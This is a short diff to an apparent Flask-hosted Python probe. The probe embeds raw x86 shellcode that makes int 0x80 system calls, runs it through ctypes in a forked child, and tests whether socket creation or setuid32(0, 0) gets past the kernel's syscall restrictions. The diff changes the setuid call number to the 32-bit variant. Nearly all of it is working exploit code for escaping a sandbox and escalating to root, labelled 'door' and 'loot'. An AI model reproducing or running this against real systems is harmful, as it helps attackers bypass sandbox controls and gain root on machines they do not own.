@@ -7,7 +7,7 @@ from flask import Flask
 
 # push rbx; mov eax, edi; mov ebx, esi; mov ecx, edx; mov edx, 0; int 0x80; pop rbx; ret
 DOOR = bytes.fromhex("53 89f8 89f3 89d1 ba00000000 cd80 5b c3")
-SOCKETCALL, SOCKET, SETUID = 102, 1, 23
+SOCKETCALL, SOCKET, SETUID32 = 102, 1, 213
 AF_INET, DATAGRAM = 2, 2
 
 
@@ -32,7 +32,7 @@ def loot():
     call = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 3)(address)
     pid = os.fork()
     if pid == 0:  # where the kernel has no such door the process dies
-        os._exit(is_socket(call(SOCKETCALL, SOCKET, arguments)) or is_root(call(SETUID, 0, 0)))
+        os._exit(is_socket(call(SOCKETCALL, SOCKET, arguments)) or is_root(call(SETUID32, 0, 0)))
     status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
     print("status:", status, flush=True)
     return "through" if status == 1 else "refused"
